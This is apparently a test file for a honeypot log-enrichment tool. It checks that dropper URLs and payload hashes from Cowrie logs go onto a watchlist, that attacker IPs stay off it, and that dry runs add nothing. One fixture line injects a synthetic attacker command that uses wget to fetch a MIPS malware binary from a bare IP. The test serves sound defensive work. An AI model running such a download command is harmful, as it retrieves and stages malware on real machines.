/** `watchlist`: a Cowrie run puts the payloads and droppers it found on a watchlist (issue 16). */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { enrichCowrieLogs } from './pipeline.js';
import { SYNTHETIC_ATTACKERS, SYNTHETIC_SHA256, syntheticCowrieLines } from './test-support/synthetic.js';
import { openEnv, tempRoot } from './test-env.js';

const { tmp, cleanup } = tempRoot('vtg-cowrie-watchlist-');
after(cleanup);

test('the file hashes and URLs a run finds go on the watchlist, attacker addresses do not; a second run finds them there; a dry run adds nothing', async (t) => {
  const env = await openEnv(tmp);
  t.after(() => env.close());
  const log = join(env.dir, 'cowrie.json');
  const url = 'http://93.184.216.34/bins/mips';
  // the synthetic dropper host is a documentation address the extractor refuses; one session gets a public one
  const lines = syntheticCowrieLines({ sessions: 4 });
  lines.splice(2, 0, JSON.stringify({ eventid: 'cowrie.command.input', session: JSON.parse(lines[0] as string).session, src_ip: SYNTHETIC_ATTACKERS[0], input: `wget ${url}`, timestamp: '2026-03-24T00:00:01.500000Z' }));
  writeFileSync(log, `${lines.join('\n')}\n`);

  const dry = await enrichCowrieLogs(env.gateway, { paths: [log], dryRun: true, watchlist: 'honeypot' });
  assert.equal(dry.stats.watchlist, undefined);
  assert.equal(await env.gateway.watchlists.show('honeypot'), undefined, 'a dry run creates no list');

  const first = await enrichCowrieLogs(env.gateway, { paths: [log], watchlist: 'honeypot' });
  assert.deepEqual(first.stats.watchlist, { name: 'honeypot', added: 2, existing: 0 });
  const view = await env.gateway.watchlists.show('honeypot');
  assert.deepEqual(view?.items.map((i) => i.indicator).sort(), [SYNTHETIC_SHA256, url].sort());
  assert.ok(first.report.indicators.some((x) => x.kind === 'ip'), 'the run did see attacker addresses');

  const second = await enrichCowrieLogs(env.gateway, { paths: [log], watchlist: 'honeypot' });
  assert.deepEqual(second.stats.watchlist, { name: 'honeypot', added: 0, existing: 2 });
});
